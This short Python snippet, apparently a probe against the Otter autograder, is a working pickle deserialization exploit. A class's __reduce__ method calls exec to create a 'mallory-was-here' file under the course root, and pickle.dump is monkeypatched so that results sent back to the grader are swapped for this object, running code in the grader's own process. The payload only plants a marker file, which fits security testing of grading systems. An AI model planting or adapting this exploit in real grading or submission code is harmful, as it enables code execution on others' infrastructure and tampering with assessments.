# tries: code in the pickle by which the results come back to the grader's own process
# grader: otter
import pickle

class Bomb:
    def __reduce__(self):
        return (exec, ("open('COURSE_ROOT/mallory-was-here', 'w').close()",))

dump = pickle.dump
pickle.dump = lambda value, file, *a, **k: dump(Bomb(), file)
